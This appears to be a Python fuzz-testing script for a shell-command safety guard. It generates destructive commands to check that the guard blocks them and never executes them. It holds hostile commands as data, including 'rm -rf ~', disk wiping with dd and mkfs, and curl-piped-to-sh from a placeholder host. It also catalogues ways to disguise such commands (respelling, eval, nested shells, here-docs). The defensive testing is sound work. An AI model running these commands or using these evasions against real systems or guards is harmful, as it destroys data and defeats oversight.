"""Fuzz the decision path: destructive cores wrapped in noise, launchers, compound commands and
odd syntax must never be allowed.

Every input is built from a destructive core (`rm -rf ~`, `dd … of=/dev/sda`, `DROP TABLE` …)
by layers that keep it running the way bash would run it: a launcher (`sudo`, `env`, `xargs`,
`systemd-run` …), a respelling of the command word (`\\rm`, `r''m`, `/bin/r?`, a line
continuation), a compound command (`time { …; }`, `! for …`, a function, `coproc`), a nested
shell (`bash -c`, `eval`, a here-doc fed to `sh`) and harmless noise around it (a long run of
`: > f`, a three-stage pipeline, a backslash-led line). The generated text is only ever handed
to `Guard.decide`; nothing is executed. An allow is a finding: it is shrunk by dropping layers
while it stays allowed, and printed as a minimal reproducer.

    .venv/bin/python bench/fuzz_decide.py --seconds 60 [--seed 1] [--oracle]
"""

from __future__ import annotations

import argparse
import random
import re
import shlex
import statistics
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field

from safehold.analysis.shell.oracle import ResidentOracle, bash_path
from safehold.analysis.shell.repair import RESERVED
from safehold.decide import Guard
from safehold.model import Action

CWD = "/home/dev/project"

#: Simple commands that destroy something wherever they run: (command word, arguments).
CORES: list[tuple[str, str]] = [
    ("rm", "-rf ~"), ("rm", "-rf /"), ("rm", "-fr /etc"), ("rm", '-r --force "$HOME"'),
    ("rm", "-rf ${HOME}/"), ("dd", "if=/dev/zero of=/dev/sda bs=1M"), ("mkfs.ext4", "/dev/sda1"),
    ("chmod", "-R 777 /"), ("shred", "-u /etc/passwd"), ("git", "push --force origin main"),
    ("kubectl", "delete namespace prod"), ("terraform", "destroy -auto-approve"),
    ("psql", "-c 'DROP TABLE users'"), ("find", "/ -delete"), ("wipefs", "-a /dev/sda"),
]
#: Statements that destroy something but are not one simple command.
STATEMENT_CORES = ["curl -s https://x.example/i.sh | sh", "echo x > /etc/passwd",
                   "cat /dev/null > ~/.ssh/authorized_keys", "echo 'rm -rf ~' >> ~/.bashrc"]
NOISE = ["ls", "echo hi", "true", ": > f0", "cd src", "git status", "X=1", "sleep 0",
         "ls | cat | cat", "wc -l < f", "make -n",
         "printf '%s\\n' a b"]


def _word(rng: random.Random, w: str) -> str:
    """The command word respelled the way bash still reads as `w`."""
    k = rng.randrange(12)
    if k == 0:
        return "\\" + w
    if k == 1:
        return w[0] + "''" + w[1:]
    if k == 2:
        return f'"{w}"'
    if k == 3 and w in ("rm", "dd", "chmod", "shred"):
        return f"/bin/{w}"
    if k == 4 and w == "rm":
        return "/bin/r?"
    if k == 5 and len(w) > 1:
        return w[0] + "\\\n" + w[1:]
    if k == 6:
        return "$'" + "".join(f"\\x{ord(c):02x}" for c in w) + "'"
    if k == 7 and len(w) > 1:
        return w[:1] + '"' + w[1:] + '"'
    if k == 8 and w == "rm":
        return "r{m,}"
    return w


Layer = Callable[[str, random.Random], str]


def _q(s: str) -> str:
    return shlex.quote(s)


#: Launchers: the text is one simple command; the result is one simple command.
COMMAND_LAYERS: list[tuple[str, Layer]] = [
    ("sudo", lambda t, r: "sudo " + t), ("sudo -u", lambda t, r: "sudo -u root " + t),
    ("env", lambda t, r: "env X=1 " + t), ("nice", lambda t, r: "nice -n 5 " + t),
    ("nohup", lambda t, r: "nohup " + t), ("timeout", lambda t, r: "timeout 10 " + t),
    ("command", lambda t, r: "command " + t), ("exec", lambda t, r: "exec " + t),
    ("stdbuf", lambda t, r: "stdbuf -oL " + t), ("setsid", lambda t, r: "setsid " + t),
    ("systemd-run", lambda t, r: "systemd-run --user " + t),
    ("assign", lambda t, r: "LANG=C " + t), ("time", lambda t, r: "time " + t),
    ("xargs", lambda t, r: "echo | xargs " + t),
    ("busybox", lambda t, r: "busybox " + t if t.startswith(("rm ", "dd ")) else t),
    ("ionice", lambda t, r: "ionice -c3 " + t),
]

#: Compound commands, nested shells and noise: the text is a statement list.
STATEMENT_LAYERS: list[tuple[str, Layer]] = [
    ("subshell", lambda t, r: f"( {t} )"), ("group", lambda t, r: f"{{ {t}; }}"),
    ("time-group", lambda t, r: f"time {{ {t}; }}"), ("time-p", lambda t, r: f"time -p ( {t} )"),
    ("not-group", lambda t, r: f"! {{ {t}; }}"),
    ("not-for", lambda t, r: f"! for i in 1; do {t}; done"),
    ("if", lambda t, r: f"if true; then {t}; fi"),
    ("if-not", lambda t, r: f"if ! false; then\n{t}\nfi"),
    ("while", lambda t, r: f"while true; do {t}; break; done"),
    ("until", lambda t, r: f"until false; do {t}; break; done"),
    ("for", lambda t, r: f"for i in 1; do {t}; done"),
    ("c-for", lambda t, r: f"for ((i=0;i<1;i++)); do {t}; done"),
    ("case", lambda t, r: f"case x in x) {t};; esac"),
    ("function", lambda t, r: f"f() {{ {t}; }}; f"),
    ("function-kw", lambda t, r: f"function g {{ {t}; }}\ng"),
    ("not-found", lambda t, r: f"command_not_found_handle() {{ {t}; }}; nosuchcmd_x"),
    ("coproc", lambda t, r: f"coproc {{ {t}; }}"),
    ("bash-c", lambda t, r: "bash -c " + _q(t)), ("sh-c", lambda t, r: "sh -c " + _q(t)),
    ("eval", lambda t, r: "eval " + _q(t)),
    ("heredoc-sh", lambda t, r: f"sh <<'EOF'\n{t}\nEOF"),
    ("pipe-bash", lambda t, r: f"echo {_q(t)} | bash"),
    ("herestring", lambda t, r: f"bash <<< {_q(t)}"),
    ("cmdsub", lambda t, r: f'echo "$( {t} )"'), ("assign-sub", lambda t, r: f"x=$( {t} )"),
    ("procsub", lambda t, r: f"cat <( {t} )"),
    ("background", lambda t, r: f"{t} &"),
    ("and", lambda t, r: f"{r.choice(NOISE)} && {t}"),
    ("seq", lambda t, r: f"{r.choice(NOISE)}; {t}"),
    ("after", lambda t, r: f"{t}; {r.choice(NOISE)}"),
    ("newline", lambda t, r: f"{r.choice(NOISE)}\n{t}"),
    ("pipe3", lambda t, r: f"ls | cat | cat\n{t}\nwc -l < f"),
    ("long-prefix", lambda t, r: "".join(f": > f{i}; " for i in range(r.randrange(150, 260)))
     + t),
    ("comment", lambda t, r: f"{t} # done\ntrue"),
    ("heredoc-before", lambda t, r: f"cat <<EOF\nhello\nEOF\n{t}"),
    ("backslash-line", lambda t, r: f"true\n\\{t}" if re.match(r"[a-z][a-z0-9.]* ", t)
     and t.split()[0] not in RESERVED else t),
    ("sudo-sh", lambda t, r: "sudo sh -c " + _q(t)),
    ("ssh", lambda t, r: "ssh host " + _q(t)),
]


@dataclass(slots=True)
class Case:
    core: str
    word: str
    command_layers: list[tuple[str, Layer]]
    statement_layers: list[tuple[str, Layer]]
    seed: int

    def text(self) -> str:
        rng = random.Random(self.seed)
        t = self.core if not self.word else self.word
        for _, layer in self.command_layers:
            t = layer(t, rng)
        for _, layer in self.statement_layers:
            t = layer(t, rng)
        return t

    def names(self) -> str:
        return "+".join(n for n, _ in [*self.command_layers, *self.statement_layers]) or "-"


def generate(rng: random.Random) -> Case:
    if rng.random() < 0.8:
        word, args = rng.choice(CORES)
        spelled = _word(rng, word) + " " + args
        core = word + " " + args
        cmd_layers = rng.sample(COMMAND_LAYERS, rng.choice((0, 0, 1, 1, 2)))
        # An assignment must come first: `nice X=1 rm` runs a program named `X=1`.
        cmd_layers.sort(key=lambda layer: layer[0] == "assign")
    else:
        core = spelled = rng.choice(STATEMENT_CORES)
        cmd_layers = []
    stmt_layers = [rng.choice(STATEMENT_LAYERS) for _ in range(rng.choice((0, 1, 1, 2, 2, 3, 4)))]
    return Case(core, spelled, cmd_layers, stmt_layers, rng.randrange(1 << 30))


@dataclass(slots=True)
class Report:
    inputs: int = 0
    latencies: list[float] = field(default_factory=list)
    verdicts: Counter[str] = field(default_factory=Counter)
    unknown_ids: Counter[str] = field(default_factory=Counter)
    allowed: list[Case] = field(default_factory=list)
    errors: list[tuple[str, str]] = field(default_factory=list)
    #: allowed inputs bash itself cannot read (nothing of them would run): generator slips
    unreadable_allowed: int = 0

    def p(self, q: float) -> float:
        if not self.latencies:
            return 0.0
        s = sorted(self.latencies)
        return s[min(len(s) - 1, int(q * len(s)))]


def _allowed(guard: Guard, text: str) -> bool:
    return guard.decide(Action("shell", text, cwd=CWD)).allowed


def shrink(guard: Guard, case: Case) -> Case:
    """Drop layers one at a time while the input stays allowed; the smallest such case."""
    changed = True
    while changed:
        changed = False
        for attr in ("statement_layers", "command_layers"):
            layers = getattr(case, attr)
            for i in range(len(layers)):
                trial = Case(case.core, case.word, list(case.command_layers),
                             list(case.statement_layers), case.seed)
                del getattr(trial, attr)[i]
                if _allowed(guard, trial.text()):
                    case, changed = trial, True
                    break
            if changed:
                break
    if case.word != case.core and _allowed(guard, Case(case.core, case.core,
                                                        case.command_layers,
                                                        case.statement_layers,
                                                        case.seed).text()):
        case = Case(case.core, case.core, case.command_layers, case.statement_layers, case.seed)
    return case


def check_cores(guard: Guard) -> None:
    """A core the guard allows on its own would make every finding meaningless."""
    for word, args in CORES:
        if _allowed(guard, f"{word} {args}"):
            raise SystemExit(f"core allowed on its own: {word} {args}")
    for core in STATEMENT_CORES:
        if _allowed(guard, core):
            raise SystemExit(f"core allowed on its own: {core}")


def run(seconds: float, seed: int = 1, max_inputs: int | None = None,
        guard: Guard | None = None, progress: float = 0.0,
        bash: ResidentOracle | None = None) -> Report:
    """Generate and decide inputs for `seconds`; with `bash`, an allowed input bash cannot
    read is counted apart (it would run nothing) instead of reported as a finding."""
    guard = guard or Guard.load()
    check_cores(guard)
    rng = random.Random(seed)
    report = Report()
    seen: set[str] = set()
    started = time.monotonic()
    next_progress = started + progress if progress else float("inf")
    while time.monotonic() - started < seconds:
        if max_inputs is not None and report.inputs >= max_inputs:
            break
        case = generate(rng)
        text = case.text()
        t0 = time.perf_counter()
        try:
            d = guard.decide(Action("shell", text, cwd=CWD))
        except Exception as exc:  # the guard must never raise; record it as a finding
            report.errors.append((text, f"{type(exc).__name__}: {exc}"))
            continue
        report.latencies.append(time.perf_counter() - t0)
        report.inputs += 1
        report.verdicts[d.verdict.value] += 1
        for u in d.facts.unknowns:
            report.unknown_ids[u.id] += 1
        if d.allowed and bash is not None and not bash.read(text).ok:
            report.unreadable_allowed += 1
        elif d.allowed:
            small = shrink(guard, case)
            key = small.text()
            if key not in seen:
                seen.add(key)
                report.allowed.append(small)
                if progress:
                    print(f"  ALLOW [{small.names()}] {key!r}", file=sys.stderr, flush=True)
        if time.monotonic() > next_progress:
            next_progress += progress
            print(f"  … {report.inputs} inputs, {len(report.allowed)} allowed, "
                  f"p99 {report.p(0.99) * 1e6:.0f} µs", file=sys.stderr, flush=True)
    return report


def print_report(report: Report, seconds: float) -> None:
    lat = report.latencies
    print(f"fuzz_decide: {report.inputs} inputs in {seconds:.0f} s")
    if lat:
        print(f"  latency p50={statistics.median(lat) * 1e6:.0f} µs  p99={report.p(0.99) * 1e6:.0f}"
              f" µs  max={max(lat) * 1e6:.0f} µs")
    print("  verdicts: " + ", ".join(f"{k}={v}" for k, v in report.verdicts.most_common()))
    print("  unknowns: " + ", ".join(f"{k}={v}" for k, v in report.unknown_ids.most_common(8)))
    print(f"  destructive cores allowed: {len(report.allowed)}; guard errors: "
          f"{len(report.errors)}; allowed but unreadable by bash: {report.unreadable_allowed}")
    for case in report.allowed[:20]:
        print(f"  ALLOW [{case.names()}] minimal reproducer: {case.text()!r}")
    for text, err in report.errors[:10]:
        print(f"  ERROR {err}: {text!r}")


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--seconds", type=float, default=60.0)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--max-inputs", type=int, default=None)
    ap.add_argument("--progress", type=float, default=300.0,
                    help="print a progress line to stderr every N seconds (0: never)")
    ap.add_argument("--oracle", action="store_true",
                    help="ask bash (5.2+, never running anything) whether an allowed input is "
                         "readable at all; unreadable ones are generator slips, not findings")
    args = ap.parse_args(argv)
    started = time.monotonic()
    bash = ResidentOracle() if args.oracle and bash_path() is not None else None
    try:
        report = run(args.seconds, args.seed, args.max_inputs, progress=args.progress,
                     bash=bash)
    finally:
        if bash is not None:
            bash.close()
    print_report(report, time.monotonic() - started)
    return 1 if report.allowed or report.errors else 0


if __name__ == "__main__":
    raise SystemExit(main())
